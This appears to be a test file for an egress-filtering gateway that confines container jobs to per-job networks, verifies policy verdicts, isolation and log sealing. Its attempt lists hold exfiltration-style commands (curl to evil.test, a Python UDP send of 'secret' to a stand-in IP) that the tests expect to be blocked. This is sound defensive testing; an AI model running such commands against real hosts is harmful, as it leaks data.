// `serve`: jobs in network namespaces of their own, as containers have them, attached by an init.
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import t from 'tap'
import { auditPolicy, blockPolicy, tidegate } from '../e2e/behind.ts'
import { openLab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import { assertValidLog } from '../schema.ts'
import { networkLeftovers } from './live-run.ts'
import { until } from './machine-services.ts'
import { gone, openServeRig, trusting } from './serve-rig.ts'

t.setTimeout(150_000)
const skip = whyNoLab()

t.test('a job is attached, proved, served, and sealed when its container is gone', { skip }, async t => {
  await using lab = await openLab()
  const policies = {
    build: trusting(lab, blockPolicy(['https://api.acme.test', 'tcp://lab.test:7', 'udp://lab.test:7'])),
  }
  await using rig = await openServeRig(lab, { policies, more: 'jobs: { "*": {} }\nadmin: 0.0.0.0:9464\n' })
  const container = await rig.container('one')
  t.equal(existsSync(`${rig.runFolder('one')}/ready`), false)

  const linked = await container.link('--policy', 'build')
  t.equal(linked.exitCode, 0, linked.stderr)
  const mac = (await container.exec('cat', ['/sys/class/net/eth0/address'])).stdout
  t.equal(readFileSync(`${rig.runFolder('one')}/ready`, 'utf8'), mac, 'the gate is open to this very wire')
  const gated = await container.exec('/run/tidegate/wait', ['--', 'sh', '-c', 'echo $SSL_CERT_FILE'])
  t.equal(gated.stdout, '/run/tidegate/bundle.pem\n', gated.stderr)

  const echo =
    'import socket\nfor kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n s = socket.socket(socket.AF_INET, kind); s.settimeout(5); s.connect(("lab.test", 7)); s.send(b"hello"); print(s.recv(9).decode())'
  const allowed = await container.sh(`curl -sSf https://api.acme.test/echo -o /dev/null && python3 -c '${echo}'`)
  t.strictSame([allowed.exitCode, allowed.stdout], [0, 'hello\nhello\n'], allowed.stderr)
  const attempts = [
    'curl -sSm5 https://evil.test/',
    'curl -sSkm5 https://203.0.113.66/',
    'curl -sSm5 http://203.0.113.66/',
    "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'secret', ('203.0.113.66', 9))\"",
    'ping -c1 -W1 203.0.113.66',
  ]
  for (const attempt of attempts) await container.sh(attempt)
  // The gateway's own end is none of the job's: neither by the wire's address nor by the uplink's.
  for (const address of ['192.0.2.10', '198.19.0.1', '127.0.0.1'])
    t.notMatch((await container.sh(`curl -sm5 http://${address}:9464/metrics`)).stdout, 'tidegate_jobs', address)
  t.match((await lab.host.exec('curl', ['-s', 'http://127.0.0.1:9464/metrics'])).stdout, /^tidegate_jobs 1$/m)
  t.equal((await lab.host.exec('curl', ['-s', 'http://127.0.0.1:9464/readyz'])).stdout, 'ready\n')

  await container.kill()
  await gone(rig, 'one')
  t.strictSame(readdirSync(rig.runFolder('one')), ['wait'], 'nothing of the job is left to see')
  await assertValidLog(`${rig.record('one')}/egress.ndjson`)
  t.equal((await lab.host.exec(tidegate, ['verify', rig.record('one')])).exitCode, 0)
  const lines = rig.lines('one')
  t.strictSame(
    lines.filter(({ layer }) => layer === 'job').map(({ event }) => event),
    ['started', 'proved', 'sealed'],
  )
  t.match(lines, [{}, {}, ...lines.slice(2, -1).map(() => ({ verdict: String })), {}])
  for (const [layer, verdict] of [
    ['http', 'allow'],
    ['tcp', 'allow'],
    ['udp', 'allow'],
    ['dns', 'deny'],
    ['http', 'deny'],
    ['packet', 'deny'],
  ] as const)
    t.ok(
      lines.some(line => line.layer === layer && line.verdict === verdict),
      `${verdict} ${layer}`,
    )
  t.strictSame(await lab.sink.lines(), [])

  rig.kill('SIGTERM')
  t.equal(await rig.ended, 0)
  t.equal(await networkLeftovers(lab), '')
  t.equal(existsSync(rig.control), false)
})

t.test('five jobs at once: each has its own wire, addresses, authority and record', { skip }, async t => {
  await using lab = await openLab()
  const names = ['a', 'b', 'c', 'd', 'e'] as const
  const hosts = ['api', 'files', 'cdn', 'npm', 'pypi'] as const
  const policies = Object.fromEntries(
    names.map((name, index) => [name, trusting(lab, blockPolicy([`https://${hosts[index]}.acme.test`]))]),
  )
  await using rig = await openServeRig(lab, { policies })
  const containers = await Promise.all(names.map(name => rig.container(name)))
  const linked = await Promise.all(containers.map((it, index) => it.link('--policy', names[index] ?? '')))
  for (const { exitCode, stderr } of linked) t.equal(exitCode, 0, stderr)
  const everything = hosts.map(host => `curl -s -o /dev/null -w '%{http_code} ' https://${host}.acme.test/`).join('; ')
  const outcomes = await Promise.all(containers.map(it => it.sh(everything)))
  for (const [index, { stdout }] of outcomes.entries())
    t.strictSame(
      stdout.trim().split(' '),
      hosts.map((_, own) => (own === index ? '200' : '000')),
      `${names[index]} reaches its own host and no other's`,
    )
  const authorities = new Set(names.map(name => readFileSync(`${rig.runFolder(name)}/ca.crt`, 'utf8')))
  t.equal(authorities.size, names.length)
  // A neighbour's addresses lead nowhere: not even to its gateway.
  const addresses = await Promise.all(containers.map(it => it.exec('ip', ['-br', '-4', 'addr', 'show', 'eth0'])))
  const [first] = containers
  for (const { stdout } of addresses.slice(1)) {
    const [, address = ''] = /(198\.19\.\d+\.\d+)\//.exec(stdout) ?? []
    const { stdout: said } = (await first?.sh(`curl -sm3 -o /dev/null -w '%{http_code}' http://${address}:80/`)) ?? {
      stdout: '',
    }
    t.equal(said, '403', `${address}: refused, in the job's own record`)
  }
  rig.kill('SIGTERM')
  t.equal(await rig.ended, 0)
  for (const [index, name] of names.entries()) {
    const lines = rig.lines(name)
    t.equal(lines.at(-1)?.event, 'sealed', name)
    t.strictSame(
      [
        ...new Set(
          lines.filter(({ layer, verdict }) => layer === 'http' && verdict === 'allow').map(({ host }) => host),
        ),
      ],
      [`${hosts[index]}.acme.test`],
      `${name} has its own flows, and no others`,
    )
  }
  t.equal(await networkLeftovers(lab), '')
  t.strictSame(await lab.sink.lines(), [])
})

t.test(
  'N21: a gateway that is killed leaves its jobs without network, and the next one tidies up',
  { skip },
  async t => {
    await using lab = await openLab()
    const policies = { audit: trusting(lab, auditPolicy) }
    await using rig = await openServeRig(lab, { policies })
    const [one, two] = [await rig.container('one'), await rig.container('two')]
    for (const it of [one, two]) t.equal((await it.link('--policy', 'audit')).exitCode, 0)
    t.equal((await one.sh('curl -sSf -o /dev/null https://api.acme.test/')).exitCode, 0)
    await lab.sink.clear()
    rig.kill('SIGKILL')
    await rig.ended
    for (const attempt of [
      'curl -sm2 https://api.acme.test/',
      'curl -skm2 https://203.0.113.66/',
      "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'secret', ('203.0.113.66', 9))\"",
      'ping -c1 -W1 203.0.113.66',
    ])
      await one.sh(attempt)
    t.strictSame(await lab.sink.lines(), [], 'even in audit nothing of it passes')
    t.ok(existsSync(`${rig.runFolder('one')}/ready`), 'a killed gateway cannot close its gates …')

    await using next = await openServeRig(lab, { policies, dir: rig.dir })
    t.equal(existsSync(`${rig.runFolder('one')}/ready`), false, '… the next one does')
    t.equal(await networkLeftovers(lab), '')
    await until(async () => (await one.exec('ip', ['-br', 'link'])).stdout.split('\n').length === 2)
    t.equal((await one.link('--policy', 'audit')).exitCode, 0, 'and the job can be linked again')
    t.equal((await one.sh('curl -sSf -o /dev/null https://api.acme.test/')).exitCode, 0)
    next.kill('SIGTERM')
    t.equal(await next.ended, 0)
  },
)
